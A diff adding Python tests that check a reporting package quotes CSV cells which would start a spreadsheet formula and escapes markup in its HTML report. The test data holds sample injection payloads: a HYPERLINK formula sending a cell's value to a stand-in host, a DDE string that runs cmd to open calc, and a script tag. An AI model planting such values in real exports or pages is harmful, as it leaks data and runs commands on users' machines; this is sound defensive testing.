@@ -6,6 +6,8 @@ real run, against counts made from the topics and the audit log.
 
 from __future__ import annotations
 
+import csv
+import io
 from collections.abc import Iterator
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
@@ -36,7 +38,7 @@ from exchange.indicators.freshness import freshness, intervals, timeliness
 from exchange.indicators.linkage import linkage
 from exchange.indicators.percentiles import nearest_rank, p50_p95
 from exchange.indicators.publishing import publishing
-from exchange.indicators.render import to_csv
+from exchange.indicators.render import FORMULA_STARTS, cell, to_csv
 from exchange.indicators.report import html
 from exchange.indicators.requests import requests
 from exchange.indicators.turnaround import turnaround
@@ -540,3 +542,40 @@ def test_a_change_time_after_the_applied_time_is_counted_apart_not_in_the_percen
         [row] = freshness(s, NOVEMBER, EVERYTHING)
     assert (row.versions, row.with_change_time, row.change_time_ahead) == (7, 7, 4)
     assert (row.p50_s, row.p95_s) == (4 * 3600, 6 * 3600)
+
+
+HOSTILE = '=HYPERLINK("http://x.example/?"&A1,"open")'
+
+
+def test_names_a_producer_claims_never_reach_a_spreadsheet_as_formulas_or_the_report_as_markup(
+    sessions: sessionmaker[Session],
+) -> None:
+    """A registry rejection keeps the department and dataset a record's headers claimed:
+    whoever can produce chooses them. The CSV quotes a cell that would start a formula,
+    the HTML report escapes markup."""
+    claims = [(HOSTILE, "+cmd|' /C calc'!A0"), ("@SUM(1+1)", "-2+3"), ("<script>x</script>", "p")]
+    with transaction(sessions) as s:
+        for offset, (department, dataset) in enumerate(claims):
+            s.add(
+                RegistryRejection(
+                    at=T0, department=department, dataset=dataset, reason="bad_signature",
+                    topic="std.person.v1", partition=0, offset=offset,
+                )
+            )  # fmt: skip
+    with sessions() as s:
+        found = compute(s, NOVEMBER, EVERYTHING, now=T0)
+    cells = [c for line in csv.reader(io.StringIO(to_csv(found))) for c in line]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    for department, dataset in claims[:2]:
+        assert "'" + department in cells
+        assert "'" + dataset in cells
+    page = html(found, title="Sharing indicators, November 2026")
+    assert "<script" not in page
+    assert "&lt;script&gt;" in page
+
+
+@given(st.text(max_size=40))
+def test_a_csv_cell_never_starts_a_formula_and_keeps_its_text(text: str) -> None:
+    written = cell(text)
+    assert not written.startswith(FORMULA_STARTS)
+    assert written in (text, "'" + text)
